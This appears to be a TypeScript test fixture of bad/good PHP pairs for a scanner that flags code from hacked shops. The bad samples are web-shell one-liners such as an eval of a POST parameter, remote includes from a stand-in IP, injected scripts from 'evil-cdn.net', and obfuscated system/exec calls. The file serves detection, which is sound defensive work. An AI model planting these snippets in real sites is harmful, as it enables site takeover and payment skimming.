import type { Sample } from "./sample.ts";

const php = (rule: string, title: string, bad: string, good: string): Sample => ({
  rule,
  title,
  path: "includes/plugin.php",
  bad: `<?php\n${bad}\n`,
  good: `<?php\n${good}\n`,
});

const block = Buffer.from(Array.from({ length: 1_200 }, (_, at) => (at * 7919 + 13 * (at % 91)) % 256)).toString(
  "base64",
);

/** PHP as found in hacked shops. */
export const phpSamples: readonly Sample[] = [
  php(
    "script-elsewhere",
    "a script in the footer",
    "add_action('wp_footer', function () { echo '<script src=\"https://evil-cdn.net/s.js\"></script>'; });",
    "echo '<script src=\"https://api.pay.example/s.js\"></script>';",
  ),
  php(
    "script-elsewhere",
    "a script in the page",
    "?><p></p><script async src=//evil-cdn.net/s.js></script>",
    "?><p></p><script src='/s.js'></script>",
  ),
  php(
    "call-hidden",
    "a name in a table",
    "$f = ['x' => 'system']; $f['x']('id');",
    "$f = ['x' => 'trim']; $f['x']('id');",
  ),
  php(
    "write-code",
    "a suffix in pieces",
    "file_put_contents(__DIR__ . '/x.ph' . 'p', $x);",
    "file_put_contents(__DIR__ . '/x.' . 'json', $x);",
  ),
  php(
    "class-received",
    "new of a request",
    "$o = new $_GET['c']($_GET['x']);",
    "$c = $_GET['c'] === 'a' ? 'A' : 'B'; $o = new $c();",
  ),
  php(
    "eval",
    "eval of a parameter",
    "function run($code) { return eval($code); }",
    "function run($code) { return evaluate($code); }",
  ),
  php("eval", "create_function", "$f = create_function('$a', 'return $a;');", "$f = function ($a) { return $a; };"),
  php("eval", "preg_replace with /e", "preg_replace('/.*/e', $x, $y);", "preg_replace('/.*e/', $x, $y);"),
  php("eval", "assert of a text", "assert('print(1)');", "assert($order instanceof WC_Order);"),
  php("eval-hidden", "the one-line backdoor", "@eval($_POST['cmd']);", "echo esc_html($_POST['cmd']);"),
  php(
    "eval-hidden",
    "base64 in the source",
    "eval(base64_decode('ZWNobyAxOw=='));",
    "$logo = base64_decode('ZWNobyAxOw==');",
  ),
  php(
    "eval-hidden",
    "a chain over variables",
    "$a = 'aGk='; $b = base64_decode($a); $c = $b; eval($c);",
    "$a = 'aGk='; $b = base64_decode($a); $c = $b; echo $c;",
  ),
  php(
    "eval-hidden",
    "code from the network",
    "eval(file_get_contents('https://cdn.example/x'));",
    "$config = json_decode(file_get_contents('https://api.pay.example/x'));",
  ),
  php(
    "eval-hidden",
    "letters from numbers",
    "$s = ''; foreach ($codes as $c) { $s .= chr($c ^ 7); } eval($s);",
    "$s = ''; foreach ($codes as $c) { $s .= chr($c); } echo $s;",
  ),
  php(
    "eval-hidden",
    "a wrapped download",
    "eval('?>' . wp_remote_retrieve_body(wp_remote_get($u)));",
    "echo wp_remote_retrieve_body(wp_remote_get($u));",
  ),
  php(
    "eval-hidden",
    "a cookie through a property",
    "class A { private $c; function a() { $this->c = $_COOKIE['k']; } function b() { eval($this->c); } }",
    "class A { private $c; function a() { $this->c = $_COOKIE['k']; } function b() { return $this->c; } }",
  ),
  php(
    "remote-code",
    "include of an address",
    "include 'http://198.51.100.7/shell.txt';",
    "include __DIR__ . '/shell.php';",
  ),
  php("remote-code", "include of what is sent", "include 'php://input';", "$body = file_get_contents('php://input');"),
  php(
    "remote-code",
    "include of a data address",
    "include 'da' . 'ta:text/plain;base64,PD9waHA=';",
    "include 'data.php';",
  ),
  php(
    "include-received",
    "local file inclusion",
    "include $_GET['page'] . '.php';",
    "$pages = ['a' => 'a.php']; include $pages['a'];",
  ),
  php(
    "include-disguised",
    "PHP in a picture",
    "include __DIR__ . '/assets/logo.png';",
    "$logo = __DIR__ . '/assets/logo.png';",
  ),
  php("include-variable", "a computed include", "include $template;", "include __DIR__ . '/template.php';"),
  php(
    "unserialize",
    "unserialize of an option",
    "$o = unserialize($row);",
    "$o = unserialize($row, ['allowed_classes' => false]);",
  ),
  php(
    "unserialize-received",
    "object injection",
    "$o = unserialize($_COOKIE['cart']);",
    "$o = json_decode($_COOKIE['cart'], true);",
  ),
  php("variables-received", "extract", "extract($_REQUEST);", "extract(['a' => 1]);"),
  php(
    "call-received",
    "the request names the function",
    "$_GET['f']($_GET['x']);",
    "$table = ['a' => 'pay']; $table['a']($_GET['x']);",
  ),
  php(
    "call-received",
    "call_user_func of a cookie",
    "call_user_func($_COOKIE['f'], $_COOKIE['x']);",
    "call_user_func([$this, 'pay'], $_COOKIE['x']);",
  ),
  php(
    "call-received",
    "a header through a variable",
    "$f = $_SERVER['HTTP_X']; $g = $_REQUEST['g']; $g($f);",
    "$g = 'trim'; $g($f);",
  ),
  php("call-hidden", "a name in two pieces", "$f = 'sys' . 'tem'; $f('id');", "$f = 'str' . 'len'; $f('id');"),
  php("call-hidden", "a name backwards", "$f = strrev('metsys'); $f('id');", "$f = strrev('nelrts'); $f('id');"),
  php("call-hidden", "a name in base64", "$f = base64_decode('c3lzdGVt'); $f('id');", "$f = 'trim'; $f('id');"),
  php("call-hidden", "a name in rot13", "$f = str_rot13('nffreg'); $f($x);", "$f = str_rot13('gevz'); echo $f;"),
  php(
    "call-hidden",
    "letters of an alphabet",
    "$a = 'abcdefghijklmnopqrstuvwxyz'; $f = $a[4] . $a[23] . $a[4] . $a[2]; $f('id');",
    "$a = 'abc'; echo $a[0] . $a[1];",
  ),
  php(
    "call-hidden",
    "chr by chr",
    "$f = chr(101) . chr(120) . chr(101) . chr(99); $f('id');",
    "$f = chr(13) . chr(10); echo $f;",
  ),
  php("call-hidden", "a callback in pieces", "array_map('ass' . 'ert', $x);", "array_map('tr' . 'im', $x);"),
  php(
    "call-hidden",
    "implode",
    "$f = implode('', ['pass', 'thru']); $f('id');",
    "$f = implode(', ', ['pass', 'thru']); echo $f;",
  ),
  php(
    "call-hidden",
    "variable of variables",
    "${'_G' . 'ET'}; $n = 'shell' . '_exec'; echo $n('id');",
    "echo $_SERVER['REQUEST_METHOD'];",
  ),
  php("decode-chain", "gzinflate of base64", "$x = gzinflate(base64_decode($blob));", "$x = gzinflate($blob);"),
  php(
    "decode-chain",
    "twice base64",
    "$x = base64_decode(base64_decode('WVdGaFlXRmhZV0ZoWVdGaFlXRmhZV0Zo'));",
    "$x = base64_decode('YWFhYWFhYWFhYWFhYWFhYWFhYWFh');",
  ),
  php("encoded-block", "a long text in base64", `$x = '${block}';`, `$x = '${"lorem ipsum dolor ".repeat(120)}';`),
  php(
    "escaped-text",
    "letters as escapes",
    '$x = "\\x65\\x76\\x61\\x6c\\x28\\x24\\x78\\x29";',
    '$x = "\\xEF\\xBB\\xBF";',
  ),
];
